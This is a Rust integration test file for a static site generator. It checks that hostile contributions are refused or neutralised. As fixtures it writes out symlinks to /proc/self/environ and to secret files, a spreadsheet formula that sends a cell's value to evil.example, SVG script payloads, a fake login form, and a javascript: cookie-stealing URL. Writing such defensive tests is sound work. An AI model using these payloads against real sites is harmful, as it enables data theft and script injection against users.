//! Building pull requests from strangers: what a hostile contributor, a typo-prone
//! maintainer or a busy CI can do to hearth, and what hearth does instead. Each test
//! names the item of the trust review (issue 10) it covers.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;
use crate::common::site::TestSite;
use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};

use crate::common::serve::http_server;
use crate::common::trust::{link, output_contains, secret};
use crate::common::{run, snapshot, write};

// 1. The output folder is deleted whatever it holds.
#[test]
fn an_output_folder_hearth_did_not_write_is_refused_and_kept() {
    let site = TestSite::minimal();
    let victim = site.path().parent().unwrap().join(format!(
        "victim-{}",
        site.path().file_name().unwrap().to_string_lossy()
    ));
    fs::create_dir_all(&victim).unwrap();
    fs::write(victim.join("thesis.txt"), "years of work").unwrap();
    let yaml = fs::read_to_string(site.path().join("site.yaml")).unwrap();
    write(
        site.path(),
        "site.yaml",
        &format!(
            "{yaml}output: ../{}\n",
            victim.file_name().unwrap().to_string_lossy()
        ),
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("was not written by hearth"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("site.yaml:"),
        "the error is at the `output:` line: {}",
        r.stderr
    );
    assert_eq!(
        fs::read_to_string(victim.join("thesis.txt")).unwrap(),
        "years of work"
    );

    let docs = tempfile::tempdir().unwrap();
    fs::write(docs.path().join("notes.txt"), "mine").unwrap();
    let r = run(
        &["build", ".", "-o", docs.path().to_str().unwrap()],
        site.path(),
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(docs.path().to_str().unwrap()),
        "names the folder: {}",
        r.stderr
    );
    assert_eq!(
        fs::read_to_string(docs.path().join("notes.txt")).unwrap(),
        "mine"
    );

    fs::create_dir_all(site.path().join(".git")).unwrap();
    fs::write(site.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let r = run(&["build", ".", "-o", ".git"], site.path());
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(site.path().join(".git/HEAD").exists());
    let _ = fs::remove_dir_all(&victim);

    // An empty folder, and hearth's own output, are replaced as before.
    let empty = tempfile::tempdir().unwrap();
    let out = empty.path().to_str().unwrap();
    assert_eq!(run(&["build", ".", "-o", out], site.path()).code, 0);
    assert!(empty.path().join(".hearth-output").is_file());
    assert_eq!(run(&["build", ".", "-o", out], site.path()).code, 0);
}

// 20. `-o SITE/.hearth-cache` replaced the cache.
#[test]
fn the_cache_and_the_home_folder_are_never_an_output() {
    let site = TestSite::minimal();
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let r = run(&["build", ".", "-o", ".hearth-cache"], site.path());
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains(".hearth-cache"), "{}", r.stderr);
    let home = tempfile::tempdir().unwrap();
    let r = common::run_env(
        &["build", ".", "-o", home.path().to_str().unwrap()],
        site.path(),
        &[("HOME", home.path().to_str().unwrap())],
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("home folder"), "{}", r.stderr);
}

// 2. Symlinks were followed and published (`avatar: zed.png -> /proc/self/environ`).
#[test]
fn an_avatar_linked_out_of_the_site_is_an_error_and_never_published() {
    let site = TestSite::community();
    link(
        Path::new("/proc/self/environ"),
        &site.path().join("members/zed.png"),
    );
    write(
        site.path(),
        "members/zed.md",
        "---\nname: Zed\navatar: zed.png\n---\nHi.\n",
    );
    let (_keep, secret) = secret();
    link(&secret, &site.path().join("members/yan.png"));
    write(
        site.path(),
        "members/yan.md",
        "---\nname: Yan\navatar: yan.png\n---\nHi.\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("members/zed.png"), "{}", r.stderr);
    assert!(r.stderr.contains("members/yan.png"), "{}", r.stderr);
    assert!(r.stderr.contains("outside the site"), "{}", r.stderr);
    assert!(
        !r.stderr.contains("hunter2") && !r.stderr.contains("PATH="),
        "{}",
        r.stderr
    );
    assert!(!site.path().join("public").exists());
}

// 3. Files read through outside symlinks printed their content in errors.
#[test]
fn a_links_file_site_yaml_or_guideline_linked_out_is_named_not_shown() {
    for at in [
        "links/x.yaml",
        "guidelines/coc.md",
        "site.yaml",
        "content/about.md",
    ] {
        let site = TestSite::community();
        let (_keep, secret) = secret();
        let path = site.path().join(at);
        let _ = fs::remove_file(&path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        link(&secret, &path);
        let r = run(&["build", "."], site.path());
        assert_eq!(r.code, 1, "{at}: {}", r.stderr);
        assert!(r.stderr.contains(at), "{at} is named: {}", r.stderr);
        assert!(
            !r.stderr.contains("hunter2"),
            "{at} is not shown: {}",
            r.stderr
        );
        let c = run(&["check", "."], site.path());
        assert!(
            !c.stdout.contains("hunter2") && !c.stderr.contains("hunter2"),
            "{at}"
        );
    }
    // A whole folder linked out is refused the same way.
    let site = TestSite::community();
    let outside = tempfile::tempdir().unwrap();
    fs::write(
        outside.path().join("leak.yaml"),
        "- url: https://x.example/\n  title: hunter2\n  note: n\n  date: 2026-01-01\n",
    )
    .unwrap();
    fs::remove_dir_all(site.path().join("links")).unwrap();
    link(outside.path(), &site.path().join("links"));
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("links"), "{}", r.stderr);
    assert!(!r.stderr.contains("hunter2"), "{}", r.stderr);
}

// 4. `.hearth-cache` entries were trusted through symlinks.
#[test]
fn cache_entries_and_folders_are_never_followed_through_links() {
    let site = TestSite::community();
    write(
        site.path(),
        "content/code.md",
        "---\ntitle: Code\n---\n```rust\nfn main() {}\n```\n",
    );
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let cards = site.path().join(".hearth-cache/cards");
    let victim_dir = tempfile::tempdir().unwrap();
    let victim = victim_dir.path().join("bashrc");
    fs::write(&victim, "alias ls='ls --color'\n").unwrap();
    // A planted card is a link to a file outside: it is drawn again, not published.
    let (_keep, secret) = secret();
    for entry in fs::read_dir(&cards).unwrap() {
        let p = entry.unwrap().path();
        fs::remove_file(&p).unwrap();
        link(&secret, &p);
    }
    // The highlight cache is a link to a file of the user's: it is replaced, the
    // user's file is left alone.
    let highlight = site.path().join(".hearth-cache/highlight.bin");
    let _ = fs::remove_file(&highlight);
    // (Without the text cache, so that the code block is highlighted again.)
    fs::remove_file(site.path().join(".hearth-cache/texts.bin")).unwrap();
    link(&victim, &highlight);
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!output_contains(&site.path().join("public"), "hunter2"));
    assert_eq!(
        fs::read_to_string(&victim).unwrap(),
        "alias ls='ls --color'\n"
    );
    assert!(!fs::symlink_metadata(&highlight)
        .unwrap()
        .file_type()
        .is_symlink());

    // A cache folder that is a link is refused; nothing is written where it points.
    fs::remove_dir_all(site.path().join(".hearth-cache")).unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    link(elsewhere.path(), &site.path().join(".hearth-cache"));
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains(".hearth-cache"), "{}", r.stderr);
    assert_eq!(fs::read_dir(elsewhere.path()).unwrap().count(), 0);
}

// 4. `external.json -> ~/.bashrc` was overwritten by `check --external`.
#[test]
fn check_external_never_writes_through_a_planted_cache_link() {
    let site = TestSite::minimal();
    let victim_dir = tempfile::tempdir().unwrap();
    let victim = victim_dir.path().join("bashrc");
    fs::write(&victim, "export KEEP=1\n").unwrap();
    fs::create_dir_all(site.path().join(".hearth-cache")).unwrap();
    link(&victim, &site.path().join(".hearth-cache/external.json"));
    let port = http_server(|_| {
        "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok".to_string()
    });
    write(
        site.path(),
        "content/about.md",
        &format!(
            "---\ntitle: About\n---\n## Who we are\n\nSee [this](http://127.0.0.1:{port}/x).\n"
        ),
    );
    let r = run(
        &["check", ".", "--external", "--allow-private"],
        site.path(),
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "export KEEP=1\n");
}

// 5. `serve` checked symlinks only on the first build.
#[test]
fn serve_never_serves_a_file_swapped_for_a_link_while_serving() {
    let site = TestSite::minimal();
    write(
        site.path(),
        "static/favicon.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    );
    let server = common::serve::start(site.path());
    let (status, _) = common::serve::request(server.port, "/hub/favicon.svg");
    assert!(status.contains("200"), "{status}");
    let (_keep, secret) = secret();
    let fav = site.path().join("static/favicon.svg");
    fs::remove_file(&fav).unwrap();
    link(&secret, &fav);
    let deadline = Instant::now() + Duration::from_secs(3);
    while Instant::now() < deadline {
        let (_, body) = common::serve::request(server.port, "/hub/favicon.svg");
        assert!(!body.contains("hunter2"), "the secret was served");
        std::thread::sleep(Duration::from_millis(100));
    }
}

// 6. A title starting with `=` became a spreadsheet formula in posts.csv.
#[test]
fn posts_csv_cells_cannot_become_formulas() {
    let site = TestSite::minimal();
    write(
        site.path(),
        "content/news/2026-11-03-evil.md",
        "---\ntitle: \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")\"\n---\nx\n",
    );
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let csv = fs::read_to_string(site.path().join("public/promote/posts.csv")).unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{line}");
        }
    }
}

// 7. SVG avatars were copied with their `<script>` and `onload`.
#[test]
fn svg_avatars_are_published_without_anything_active() {
    let site = TestSite::community();
    write(
        site.path(),
        "members/zed.svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)"><script>alert(2)</script><foreignObject width="9" height="9"><iframe src="https://evil.example/"/></foreignObject><circle cx="32" cy="32" r="30" fill="teal"/></svg>"#,
    );
    write(
        site.path(),
        "members/zed.md",
        "---\nname: Zed\navatar: zed.svg\n---\nHi.\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    let svg = fs::read_to_string(site.path().join("public/members/zed/zed.svg")).unwrap();
    for bad in ["script", "onload", "alert", "foreignObject", "evil.example"] {
        assert!(!svg.contains(bad), "{bad} survived: {svg}");
    }
    assert!(svg.contains("<path"), "the drawing stays: {svg}");
}

// 8. Control characters made the feeds invalid XML while the build said fine.
#[test]
fn control_characters_are_an_error_at_the_key_that_holds_them() {
    let site = TestSite::community();
    write(
        site.path(),
        "links/reading.yaml",
        "- url: https://blog.example.com/async\n  title: Async\n  note: \"Bell \\u0007 here\"\n  date: 2026-11-02\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("links/reading.yaml:3:"), "{}", r.stderr);
    assert!(r.stderr.contains("U+0007"), "{}", r.stderr);

    let site = TestSite::community();
    write(
        site.path(),
        "content/about.md",
        "---\ntitle: About\u{c}us\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("content/about.md:2:"), "{}", r.stderr);
    assert!(
        !r.stderr.contains("card.svg"),
        "the page is blamed, not the card: {}",
        r.stderr
    );
}

// 9. Sanitized bios kept id/class, form controls and remote tracking images.
#[test]
fn sanitized_bios_and_pages_lose_ids_classes_forms_and_trackers() {
    let site = TestSite::community();
    let bio = "<div id=\"hearth-problem\" class=\"site-header\" style=\"position:fixed\">Fake</div>\n\n<form action=\"https://evil.example/\"><input type=\"password\" name=\"pw\"><button>Log in</button></form>\n\n![pixel](https://tracker.example/p.gif)\n\n## Hello\n";
    write(
        site.path(),
        "members/zed.md",
        &format!("---\nname: Zed\n---\n{bio}"),
    );
    write(
        site.path(),
        "content/post.md",
        &format!("---\ntitle: Post\n---\n{bio}"),
    );
    let yaml = fs::read_to_string(site.path().join("site.yaml")).unwrap();
    write(
        site.path(),
        "site.yaml",
        &format!("{yaml}content:\n  sanitize: true\n"),
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    for page in ["public/members/zed/index.html", "public/post/index.html"] {
        let html = fs::read_to_string(site.path().join(page)).unwrap();
        let main = html.split("<main").nth(1).unwrap();
        for bad in [
            "hearth-problem",
            "position:fixed",
            "type=\"password\"",
            "<button>Log in",
            "tracker.example",
            "evil.example",
        ] {
            assert!(!main.contains(bad), "{page}: {bad} survived");
        }
        assert!(
            main.contains("id=\"hello\""),
            "{page}: heading anchors stay"
        );
    }
    // `members.remote_images: true` keeps images from other hosts.
    let remote = yaml.replace("members:\n", "members:\n  remote_images: true\n");
    assert_ne!(remote, yaml);
    write(site.path(), "site.yaml", &remote);
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    let html = fs::read_to_string(site.path().join("public/members/zed/index.html")).unwrap();
    assert!(html.contains("tracker.example"));
}

// 10. `event.url: javascript:…` was published in the page and the .ics.
#[test]
fn an_event_url_must_be_http_or_https() {
    let site = TestSite::minimal();
    write(
        site.path(),
        "content/call.md",
        "---\ntitle: Call\nevent:\n  start: 2026-12-03T18:00:00Z\n  url: \"javascript:alert(document.cookie)\"\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("content/call.md:5:"), "{}", r.stderr);
    assert!(r.stderr.contains("javascript:"), "{}", r.stderr);

    // Where it makes sense (a profile's contact links), mailto is fine too.
    let site = TestSite::minimal();
    write(
        site.path(),
        "members/ada.md",
        "---\nname: Ada\nlinks:\n  - { label: Mail, url: \"mailto:ada@example.org\" }\n---\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
}

// 11. A file name with an empty slug overwrote an index page or vanished.
#[test]
fn a_name_that_leaves_no_slug_is_an_error() {
    for path in ["guidelines/???.md", "content/news/!!!.md"] {
        let site = TestSite::community();
        write(site.path(), path, "---\ntitle: Nameless\n---\n## Rule\n");
        let r = run(&["build", "."], site.path());
        assert_eq!(r.code, 1, "{path}: {}", r.stderr);
        assert!(r.stderr.contains(path), "{path}: {}", r.stderr);
        assert!(r.stderr.contains("nothing usable in a URL"), "{}", r.stderr);
    }
}

// 12. A 60-word link title or a 300-character tag failed with `File name too long`.
#[test]
fn long_titles_and_tags_get_short_stable_file_names() {
    let site = TestSite::community();
    let title = "word ".repeat(60);
    let tag = "t".repeat(300);
    write(
        site.path(),
        "links/long.yaml",
        &format!("- url: https://long.example/\n  title: {title}\n  note: Long.\n  date: 2026-11-03\n  tags: [{tag}]\n"),
    );
    write(
        site.path(),
        "content/long.md",
        &format!("---\ntitle: {title}\ntags: [{tag}]\n---\nx\n"),
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    for (path, _) in snapshot(&site.path().join("public")) {
        for part in path.components() {
            assert!(part.as_os_str().len() <= 255, "{}", path.display());
        }
    }
    let c = run(&["check", "."], site.path());
    assert_eq!(c.code, 0, "{}{}", c.stdout, c.stderr);
}

// 13. A UTF-8 byte-order mark gave false errors.
#[test]
fn a_byte_order_mark_is_not_content() {
    let site = TestSite::community();
    for file in [
        "site.yaml",
        "links/reading.yaml",
        "content/about.md",
        "members/bob.md",
    ] {
        let text = fs::read_to_string(site.path().join(file)).unwrap();
        write(site.path(), file, &format!("\u{feff}{text}"));
    }
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
}

// 14. Impossible dates in file names, misplaced date errors, drafts and empty tags
// dropped silently, follow-on errors.
#[test]
fn silent_losses_are_located_errors_without_follow_ons() {
    let site = TestSite::minimal();
    write(
        site.path(),
        "content/news/2026-13-45-post.md",
        "---\ntitle: Post\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("content/news/2026-13-45-post.md"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("not a date"), "{}", r.stderr);

    let site = TestSite::minimal();
    write(
        site.path(),
        "content/about.md",
        "---\ntitle: About\ndate: 9999-12-31\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("content/about.md:3:7"), "{}", r.stderr);

    let site = TestSite::community();
    write(
        site.path(),
        "content/draft.md",
        "---\ntitle: Draft\ndraft: true\n---\nx\n",
    );
    write(
        site.path(),
        "links/more.yaml",
        "- url: https://more.example/\n  title: More\n  note: n\n  date: 2026-11-01\n  discuss: draft.md\n  tags: [\"???\"]\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("links/more.yaml:5:"),
        "discuss to a draft: {}",
        r.stderr
    );
    assert!(
        r.stderr.contains("links/more.yaml:6:"),
        "empty tag: {}",
        r.stderr
    );
    write(
        site.path(),
        "content/about.md",
        "---\ntitle: About\ntags: [\"!!!\"]\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert!(
        r.stderr.contains("content/about.md:3:"),
        "empty page tag: {}",
        r.stderr
    );

    // One broken member file is one error, not one more in the links file.
    let site = TestSite::community();
    write(site.path(), "members/ada.md", "---\nname: [broken\n---\n");
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("members/ada.md"), "{}", r.stderr);
    assert!(!r.stderr.contains("links/reading.yaml"), "{}", r.stderr);
    assert!(!r.stderr.contains("is not a member"), "{}", r.stderr);
    assert!(r.stderr.contains("failed with 1 error"), "{}", r.stderr);
}

// 1–3. `hearth new` wrote through a planted link (a dangling `members/zed.md` link
// made a file wherever it pointed) and read and rewrote a links file linked out.
#[test]
fn hearth_new_never_writes_or_reads_through_a_link() {
    let site = TestSite::community();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("planted.md");
    link(&target, &site.path().join("members/zed.md"));
    let r = run(&["new", "member", "zed"], site.path());
    assert_ne!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("members/zed.md"), "{}", r.stderr);
    assert!(!target.exists(), "nothing was written outside the site");

    let (_keep, secret) = secret();
    let links = site.path().join("links/links.yaml");
    link(&secret, &links);
    let r = run(&["new", "link", "https://new.example/"], site.path());
    assert_ne!(r.code, 0, "{}", r.stderr);
    assert!(!r.stderr.contains("hunter2"), "{}", r.stderr);
    assert_eq!(
        fs::read_to_string(&secret).unwrap(),
        "api_key: hunter2-SECRET\n- not: [valid\n"
    );
}

/// Trust round two: a poisoned search index could publish a result link to
/// `/\evil.example`, which browsers read as another host, and `search.js`'s check
/// let it through. The theme's own check, run in node, on the links it must refuse
/// and the ones it must keep.
#[test]
fn search_results_link_only_into_the_site() {
    if !common::require_tool(common::has_command("node", "--version"), "node") {
        return;
    }
    let js = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/hearth/static/search.js"),
    )
    .unwrap();
    let start = js
        .find("function isSiteUrl")
        .expect("search.js has isSiteUrl");
    let end = start + js[start..].find("\n  }\n").expect("its end") + 4;
    let refused = [
        "/\\evil.example/",
        "//evil.example/",
        "\\\\evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "/\\/evil.example",
        "/a\\b",
        "/\t/evil.example",
        "",
    ];
    let kept = ["/", "/news/welcome/", "/hub/members/ada/#bio", "/a?b=c"];
    let script = format!(
        "{}\nconst cases = {};\nprocess.stdout.write(JSON.stringify(cases.map(isSiteUrl)));",
        &js[start..end],
        serde_json::to_string(&refused.iter().chain(&kept).collect::<Vec<_>>()).unwrap()
    );
    let out = std::process::Command::new("node")
        .args(["-e", &script])
        .output()
        .unwrap();
    let answers: Vec<bool> = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    for (url, ok) in refused.iter().chain(&kept).zip(answers) {
        assert_eq!(ok, kept.contains(url), "{url:?}");
    }
}
